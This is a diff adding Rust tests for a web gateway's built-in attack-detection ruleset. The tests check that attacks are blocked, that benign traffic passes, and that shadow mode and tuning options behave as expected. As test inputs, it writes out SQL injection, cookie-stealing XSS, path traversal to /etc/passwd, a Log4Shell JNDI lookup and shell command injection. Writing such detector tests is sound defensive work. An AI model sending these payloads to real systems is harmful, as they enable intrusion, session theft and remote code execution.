@@ -1,0 +1,69 @@
+//! The rules that come with the gateway.
+
+use portcullis_testkit::echo::Upstream;
+use portcullis_testkit::gateway::Gateway;
+
+use super::super::refusal;
+use super::{get, post, rule_ids};
+use crate::common::{plain, setup};
+
+fn guarded(upstream: &Upstream, keys: &str) -> Gateway {
+    plain(&upstream.url()).policy("scan", format!("{{ ruleset: builtin{keys} }}")).start()
+}
+
+#[test]
+fn attacks_are_refused_without_any_rule_file() {
+    let upstream = Upstream::start();
+    let gateway = guarded(&upstream, "");
+    for target in [
+        "/?id=1%27%20or%20%271%27=%271",
+        "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+        "/?file=....//....//etc/passwd%00",
+        "/?x=$%7Bjndi:ldap://x.example/a%7D",
+    ] {
+        assert_eq!(refusal(&get(&gateway, target, "")), (403, "attack_detected".to_owned()), "{target}");
+    }
+    let encoded = r#"{"a":{"b":["\u003cimg src=x onerror=alert(1)\u003e"]}}"#;
+    assert_eq!(post(&gateway, "application/json", encoded).status, 403);
+    assert_eq!(post(&gateway, "application/x-www-form-urlencoded", "c=;cat+/etc/passwd").status, 403);
+    upstream.assert_no_contact();
+    let record = gateway.stop_and_audit().remove(0);
+    assert_eq!(record["waf.matches"][0]["target"], "ARGS:id");
+    assert!(rule_ids(&record).iter().all(|id| (100_000..101_000).contains(id)), "{record}");
+    assert!(record["waf.score"].as_u64().is_some_and(|score| score >= 5), "{record}");
+}
+
+#[test]
+fn ordinary_traffic_passes() {
+    let upstream = Upstream::start();
+    let gateway = guarded(&upstream, "");
+    let prose = r#"{"text":"Please select a time from the list; bring O'Neil's card & the drop-off form","n":1}"#;
+    assert_eq!(post(&gateway, "application/json", prose).status, 200);
+    assert_eq!(get(&gateway, "/api/v1/search?q=blue+widget+with+handle&limit=20&lang=en", "").status, 200);
+    let records = gateway.stop_and_audit();
+    assert!(records.iter().all(|record| record.get("waf.rule_ids").is_none()), "{records:?}");
+}
+
+#[test]
+fn it_can_be_shadowed_and_tuned() {
+    let upstream = Upstream::start();
+    let attack = "/?id=1%27%20or%20%271%27=%271";
+    assert_eq!(get(&guarded(&upstream, ", mode: shadow"), attack, "").status, 200);
+    assert_eq!(get(&guarded(&upstream, ", thresholds: { inbound: 1000 }"), attack, "").status, 200);
+    let excluded = ", exclude: [{ rule: 100000-100999, target: \"ARGS:id\" }]";
+    assert_eq!(get(&guarded(&upstream, excluded), attack, "").status, 200);
+    assert_eq!(get(&guarded(&upstream, excluded), "/?other=1%27%20or%20%271%27=%271", "").status, 403);
+}
+
+#[test]
+fn what_it_does_not_have_is_refused() {
+    let upstream = Upstream::start();
+    for (keys, expected) in [
+        (", paranoia: 2", "the ruleset `builtin` has no paranoia levels"),
+        (", thresholds: { outbound: 4 }", "the ruleset `builtin` does not look at answers"),
+    ] {
+        let config = plain(&upstream.url()).policy("scan", format!("{{ ruleset: builtin{keys} }}"));
+        let output = setup().refuse(&config.text()).stderr;
+        assert!(output.contains(expected), "{output}");
+    }
+}
